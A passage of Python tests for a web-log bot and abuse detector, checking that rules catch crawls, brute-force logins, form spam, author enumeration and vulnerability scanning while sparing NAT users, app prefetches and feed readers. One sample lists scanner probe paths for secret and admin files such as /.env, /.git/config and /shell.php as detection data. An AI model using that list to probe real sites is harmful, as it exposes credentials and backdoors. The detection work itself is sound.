    return f"hdr:{clientshape.hdr_key(fleet.shape())}"


@sample("client-stack-fleet")
def _stack_fleet(log: Log) -> str:
    return stack_fleet(log, tls=False)


@sample("client-stack-fleet-tls")
def _stack_fleet_tls(log: Log) -> str:
    return stack_fleet(log, tls=True)


@sample("fast-crawl")
def _fast_crawl(log: Log) -> str:
    for n in range(100):  # sustained: fixed one-minute windows see 40 in one of them
        log.hit(50 + 0.6 * n, "203.0.113.120", f"/page-{n:02d}")
    return "ip:203.0.113.120"


@sample("probing")
def _probing(log: Log) -> str:
    for n, path in enumerate(["/wp-admin/setup.php", "/.env", "/phpmyadmin/", "/admin.php",
                              "/config.php.bak", "/.git/config", "/server-status", "/cgi-bin/x",
                              "/xmlrpc.php", "/backup.zip", "/test.php", "/shell.php"]):
        log.hit(50 + 4 * n, "203.0.113.130", path, status=404, size=150)
    return "ip:203.0.113.130"


def test_every_rule_has_a_sample() -> None:
    rule_ids = {rule.id for rule in load_policy(None).rules}
    assert rule_ids - set(SAMPLES) == set(), "rules without a sample log"
    assert set(SAMPLES) - rule_ids == set(), "samples for rules that no longer exist"


@pytest.mark.parametrize("rule_id", sorted(SAMPLES))
def test_rule_fires_on_its_sample(rule_id: str, tmp_path: Path) -> None:
    log = Log()
    log.person()
    actor = SAMPLES[rule_id](log)
    result = analyze([str(log.write(tmp_path / f"{rule_id}.log"))],
                     policy=str(DATA / "sample_policy.yaml"))
    decided = {d.actor: d for d in result.decisions}
    assert actor in decided, f"{rule_id} did not act on {actor}; decided: {sorted(decided)}"
    assert rule_id in decided[actor].rules
    assert decided[actor].action != "allow"
    assert decided[actor].subjects_before_action <= decided[actor].subjects
    assert PERSON not in decided, f"the person was acted on: {decided.get(PERSON)}"


def test_an_address_book_synced_every_day_is_left_alone(tmp_path: Path) -> None:
    """The near miss of new-lookups-account: an app user syncing a book of 200 contacts every
    day, two new contacts a day among them, looks up more numbers a day than the pool does,
    but the same people: its fortnight holds few more than its busiest day."""
    log = Log()
    pool = _new_lookups(log)
    rng = random.Random(83)
    book = rng.sample(range(3 * 10**9, 4 * 10**9), 200)
    for day in range(5):
        book += rng.sample(range(5 * 10**9, 6 * 10**9), 2)
        at = 86400 * day + 7200.0
        for phone in book:
            at += rng.uniform(3, 9)
            log.hit(at, "10.9.1.7", f"/api/lookup?phone={phone}", user="syncer",
                    ua="ShopApp/5.2 (iPhone; iOS 17.3; Scale/3.00)")
    decided = _decided(log, tmp_path, "syncer.log")
    assert pool in decided, decided
    assert "account:syncer" not in decided, decided


def _decided(log: Log, tmp_path: Path, name: str) -> dict[str, object]:
    result = analyze([str(log.write(tmp_path / name))], policy=str(DATA / "sample_policy.yaml"))
    return {d.actor: d for d in result.decisions}


def test_staff_are_those_the_site_answers_its_staff_area(tmp_path: Path) -> None:
    """A moderator working reported reviews reads more people in a day than the daily bar,
    after the site answered its moderation queue to the account (200): the site's own word
    that the account is staff. A bought account asking the same page is refused it (403), and
    the staff area's login page answers anyone (200): neither is staff, both are held to the
    budget."""
    log = Log()
    rng = random.Random(14)
    for account in range(400):  # the site's other accounts, whose days set the relative bar
        for n in range(5):
            log.hit(200 * account + 40 * n, f"10.1.{account % 250}.2",
                    f"/user/{rng.randrange(10**5)}", user=f"shopper{account}")
    for n, (name, queue, status) in enumerate((("moderator", "/admin/reports", 200),
                                                ("bought", "/admin/reports", 403),
                                                ("asker", "/admin/login", 200))):
        ip = f"203.0.113.{70 + n}"
        log.hit(1, ip, queue, user=name, status=status)
        at = 2.0
        for user_id in rng.sample(range(100_000, 999_999), 2100):
            at += rng.uniform(10, 30)
            log.hit(at, ip, f"/user/{user_id}", user=name)
    decided = _decided(log, tmp_path, "staff.log")
    assert "account:moderator" not in decided, decided["account:moderator"]
    for name in ("bought", "asker"):
        assert "exposure-daily-account" in decided[f"account:{name}"].rules, decided  # type: ignore[attr-defined]


def test_people_logging_in_behind_one_address_are_no_bruteforce(tmp_path: Path) -> None:
    """A carrier NAT: sixty people behind one address each sign in once in the day, half of
    them after a mistyped password (the form again, 200). The address posts ninety passwords,
    thirty of them refused, but as sixty clients (the accounts they then use), none trying more
    than twice. Beside it, one client posting thirty passwords the site did not take is a
    brute force; and a script whose every password is taken (302) is not cracking any."""
    log = Log()
    nat, form = "100.64.7.9", "https://shop.example/login"
    for k in range(60):
        at = 400.0 * k
        log.hit(at, nat, "/login", referer="https://shop.example/")
        if k % 2:
            log.hit(at + 20, nat, "/login", method="POST", status=200, referer=form)
        log.hit(at + 40, nat, "/login", method="POST", status=302, referer=form)
        log.hit(at + 41, nat, f"/user/{9000 + k}", user=f"member{k}", referer=form)
    for n in range(30):
        log.hit(100 + 60 * n, "203.0.113.98", "/login", method="POST", status=200, referer=form)
        log.hit(100 + 60 * n, "203.0.113.99", "/login", method="POST", status=302, referer=form)
    decided = _decided(log, tmp_path, "nat-logins.log")
    assert f"ip:{nat}" not in decided, decided[f"ip:{nat}"]
    assert "ip:203.0.113.99" not in decided, decided["ip:203.0.113.99"]
    assert "login-bruteforce" in decided["ip:203.0.113.98"].rules, decided  # type: ignore[attr-defined]


def test_an_agent_reading_many_people_in_a_browser_is_left_alone(tmp_path: Path) -> None:
    """The near miss of pages-without-assets-account, in its own sample: the agent reads more
    people that day than the tool, but its browser loads each new person's picture."""
    log = Log()
    tool = _pages_without_assets_account(log)
    decided = _decided(log, tmp_path, "agent.log")
    assert tool in decided, decided
    assert "account:agent-4" not in decided, decided


def test_form_posted_from_a_rendered_page_is_left_alone(tmp_path: Path) -> None:
    """The near miss of form-without-assets: a reader comments and another signs up from the
    page their browser rendered with its assets (one from its cache: the style sheet only)."""
    log = Log()
    readers(log)
    for ip, form in (("198.51.100.60", "/wp-comments-post.php"),
                     ("198.51.100.61", "/wp-login.php?action=register")):
        log.hit(700, ip, "/2016/02/a-post/", referer="https://www.google.com/", size=24_000)
        log.hit(700.3, ip, "/wp-content/themes/t/style.css",
                referer="https://blog.example/2016/02/a-post/")
        log.hit(790, ip, form, method="POST", status=302, size=0,
                referer="https://blog.example/2016/02/a-post/")
    decided = _decided(log, tmp_path, "forms.log")
    assert not any(rule == "form-without-assets" for d in decided.values()
                   for rule in d.rules), decided  # type: ignore[attr-defined]


BUILD = "575yx8xm5MslfY5ubihey"


def test_a_single_page_app_prefetching_its_links_is_no_crawl(tmp_path: Path) -> None:
    """A Next.js shop in production: `next/link` prefetches the data of every link that
    scrolls into view (`/_next/data/<build>/<page>.json`; the App Router asks `<page>?_rsc=`),
    forty and more in a minute from one category page, by the page's own script. Those are
    software's fetches, not documents read: the shopper is no fast crawl, and with warm
    caches no browser reading pages without assets. A crawler reading forty product pages in
    that minute still is one."""
    log = Log()
    readers(log)
    forms = (f"/_next/data/{BUILD}/product/p-{{k}}.json", "/product/p-{k}?_rsc=1ld0r")
    for n, form in enumerate(forms):
        ip, at = f"198.51.100.{80 + n}", 700.0 + 100 * n
        log.hit(at, ip, "/category/knitwear", referer="https://www.google.com/", size=38_000)
        log.hit(at + 0.3, ip, "/_next/static/css/app.css",
                referer="https://shop.example/category/knitwear")
        for k in range(60):
            log.hit(at + 1 + 0.5 * k, ip, form.format(k=k), size=3000,
                    referer="https://shop.example/category/knitwear")
        for k in range(45):  # a returning tab: the assets cached, only the app's fetches
            log.hit(at + 40 + 0.4 * k, ip, form.format(k=100 + k), size=3000,
                    referer="https://shop.example/category/knitwear")
    for k in range(100):
        log.hit(900 + 0.6 * k, "203.0.113.121", f"/product/p-{k}", size=30_000)
    decided = _decided(log, tmp_path, "prefetch.log")
    assert not {"ip:198.51.100.80", "ip:198.51.100.81"} & set(decided), decided
    assert "fast-crawl" in decided["ip:203.0.113.121"].rules, decided  # type: ignore[attr-defined]


def test_a_visit_that_starts_on_the_sign_up_form_is_no_blind_form(tmp_path: Path) -> None:
    """The sign-up page is where many visits start: a search result, an advert, an e-mail
    link, a typed address. The browser asks for the page first and its assets after, so at
    the page nothing was loaded yet; the evidence of a blind form is a submission, a site
    link claimed from a page never rendered, or a form the site does not have (4xx)."""
    log = Log()
    readers(log)
    for n, referer in enumerate(("https://www.bing.com/", "-", "https://mail.example.net/")):
        ip, at = f"198.51.100.{70 + n}", 700.0 + 30 * n
        log.hit(at, ip, "/register", referer=referer, size=38_000)
        for k, asset in enumerate(["/wp-content/themes/t/style.css", "/wp-includes/js/jquery.js"]):
            log.hit(at + 0.4 + 0.1 * k, ip, asset, referer="https://blog.example/register")
        log.hit(at + 60, ip, "/register", method="POST", status=302, size=0,
                referer="https://blog.example/register")
    log.hit(800, "203.0.113.152", "/register", method="POST", status=302, size=0, ua=FORM_BOT)
    log.hit(810, "203.0.113.153", "/register", referer="http://blog.example/", size=38_000,
            ua=FORM_BOT)
    log.hit(820, "203.0.113.154", "/user/register", status=404, size=500, ua=FORM_BOT)
    decided = _decided(log, tmp_path, "sign-up.log")
    for bot in ("ip:203.0.113.152", "ip:203.0.113.153", "ip:203.0.113.154"):
        assert "form-without-assets" in decided[bot].rules, decided  # type: ignore[attr-defined]
    assert not {f"ip:198.51.100.{70 + n}" for n in range(3)} & set(decided), decided


AHREFS = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"


def test_a_crawler_following_bylines_is_no_author_enumeration(tmp_path: Path) -> None:
    """On a news site whose bylines link `/?author=N`, readers follow them (with the article
    as referer), and a crawler, which sends no referer, follows them too: an author archive
    the site's own pages link is no secret it enumerates. Ids that no page links still
    count."""
    log = Log()
    readers(log)
    for n in range(1, 6):
        log.hit(600 + 10 * n, "198.51.100.91", f"/?author={20 + n}", status=301, size=0,
                referer="https://blog.example/2016/02/a-post/")
    for n in range(1, 6):
        log.hit(800 + 30 * n, "203.0.113.98", f"/?author={20 + n}", status=301, size=0,
                ua=AHREFS)
    log.hit(900, "203.0.113.97", "/?author=1", status=301, size=0, ua="-")
    log.hit(902, "203.0.113.97", "/?author=2", status=301, size=0, ua="-")
    decided = _decided(log, tmp_path, "bylines.log")
    assert "ip:203.0.113.98" not in decided, decided
    assert "author-enumeration" in decided["ip:203.0.113.97"].rules, decided  # type: ignore[attr-defined]


def test_a_comment_posted_after_the_hour_turned_is_no_blind_form(tmp_path: Path) -> None:
    """A reader loads the article with its assets at 12:57 and posts a comment at 13:00:
    windows are fixed, so in an hour's window the post stood alone, with no asset before it.
    The rule's window is a day."""
    log = Log()
    readers(log)
    turn = 3600 - START.minute * 60 - START.second  # the next full hour after the log starts
    ip = "198.51.100.90"
    log.hit(turn - 180, ip, "/2016/02/a-post/", referer="https://www.google.com/", size=24_000)
    log.hit(turn - 179.7, ip, "/wp-content/themes/t/style.css",
            referer="https://blog.example/2016/02/a-post/")
    log.hit(turn + 1, ip, "/wp-comments-post.php", method="POST", status=302, size=0,
            referer="https://blog.example/2016/02/a-post/")
    decided = _decided(log, tmp_path, "turn.log")
    assert f"ip:{ip}" not in decided, decided


def test_form_spam_signal_switches_off_behind_a_cdn(tmp_path: Path) -> None:
    """On a site whose assets a CDN serves, nobody loads them from the origin (the icon
    aside): a form reached without them is what every person does there, so the rule's
    evidence never switches on; the same bot on a site that serves its assets is caught."""
    log = Log()
    readers(log, assets=False)
    bot = form_spam(log)
    decided = _decided(log, tmp_path, "cdn.log")
    assert bot not in decided, decided
    assert "ip:203.0.113.151" not in decided, decided
    log = Log()
    readers(log)
    form_spam(log)
    decided = _decided(log, tmp_path, "origin.log")
    assert bot in decided, decided
    assert "ip:203.0.113.151" in decided, decided


def test_libraries_on_feeds_and_apis_are_left_alone(tmp_path: Path) -> None:
    """The near miss of library-page-walk and library-mirror: a feed reader polling all day,
    an app reading items from the JSON API, a script saving a dozen articles, and a phone's
    contact sync making forty API lookups in seconds, all with library agents."""
    log = Log()
    for n in range(300):
        log.hit(30 + 280 * n, "203.0.113.170", "/feed/", ua="python-requests/2.31.0", size=40_000)
        log.hit(40 + 280 * n, "203.0.113.170", f"/2015/{1 + n % 12:02d}/post-{n % 40}/feed/",
                ua="python-requests/2.31.0", size=900)
    for n in range(200):
        log.hit(50 + 300 * n, "203.0.113.171", f"/wp-json/wp/v2/posts/{1000 + n}",
                ua="okhttp/4.12.0", size=3000)
    for n in range(12):
        log.hit(3600 + 5 * n, "203.0.113.172", f"/2014/05/post-{n}/", ua="Wget/1.21.4",
                size=24_000)
    for n in range(40):  # a phone's contact sync: one API lookup per contact, in seconds
        log.hit(7200 + 0.3 * n, "203.0.113.173", f"/api/contacts/lookup?phone=+1555{n:07d}",
                ua="okhttp/4.12.0", size=300)
    decided = _decided(log, tmp_path, "libraries.log")
    apps = {"ip:203.0.113.170", "ip:203.0.113.171", "ip:203.0.113.172", "ip:203.0.113.173"}
    assert not apps & set(decided), decided


def test_referer_spam_spares_a_referral_of_browsers(tmp_path: Path) -> None:
    """The near miss of referer-spam: a search engine's bare-root referer brings browsers
    that load the page's assets, and a few whose cache already holds them; readers move on
    through the site with its own pages as referers. No referral campaign is acted on, nor
    any visitor it brought."""
    log = Log()
    readers(log)
    for n in range(4):  # returning readers: the page only, twice, assets from the cache
        ip = f"{100 + n}.51.7.{10 + n}"
        log.hit(900 + 40 * n, ip, "/2016/02/a-post/", referer="https://www.google.com/")
        log.hit(960 + 40 * n, ip, "/2016/01/older/", referer="https://blog.example/2016/02/a-post/")
    decided = _decided(log, tmp_path, "referral.log")
    assert not [actor for actor in decided if str(actor).startswith("campaign:ref:")], decided
    assert not [actor for actor in decided if str(actor).startswith("ip:")], decided


def test_referer_spam_switches_off_behind_a_cdn(tmp_path: Path) -> None:
    """Behind a CDN the origin sees no assets from anyone, so a group that loaded none
    proves nothing: the same spam is left alone there, and caught where assets are served."""
    log = Log()
    readers(log, assets=False)
    campaign = referer_spam(log)
    assert campaign not in _decided(log, tmp_path, "cdn-referer.log")
    log = Log()
    readers(log)
    referer_spam(log)
    decided = _decided(log, tmp_path, "origin-referer.log")
    assert campaign in decided, decided
    assert decided[campaign].members, "the spam's addresses are the campaign's members"  # type: ignore[attr-defined]


def foreign_link(log: Log) -> tuple[set[str], set[str]]:
    """A scanner replays the referer of the last site it probed (a page of another host) on
    its request for /administrator/, and a second prober asks for it later with no referer;
    a person follows the site's own dead link to /admin.php, and another asks for it after.
    Returns (probers, people)."""
    for n in range(3):  # three browsers make shop.example known as the site's own host
        log.person(ip=f"198.51.100.{30 + n}", at=5.0 * n, seed=n)
    log.hit(900, "203.0.113.180", "/administrator/index.php", status=404, size=150,
            referer="http://other-site.example/?q=admin&destination=admin")
    log.hit(1900, "203.0.113.181", "/administrator/index.php", status=404, size=150)
    log.hit(2000, "198.51.100.40", "/admin.php", status=404, size=150,
            referer="https://shop.example/about")
    log.hit(2100, "198.51.100.41", "/admin.php", status=404, size=150)
    return {"ip:203.0.113.180", "ip:203.0.113.181"}, {"ip:198.51.100.40", "ip:198.51.100.41"}


def test_a_foreign_link_to_a_scanner_target_links_nothing(tmp_path: Path) -> None:
    """The near miss of known-target-probe's link memory: a foreign page's "link" to a
    scanner target must not make it linked for every prober after it; a link from the site's
    own page still does."""
    log = Log()
    probers, people = foreign_link(log)
    decided = _decided(log, tmp_path, "foreign-link.log")
    for prober in probers:
        assert prober in decided, decided
        assert "known-target-probe" in decided[prober].rules  # type: ignore[attr-defined]
    assert not people & set(decided), decided
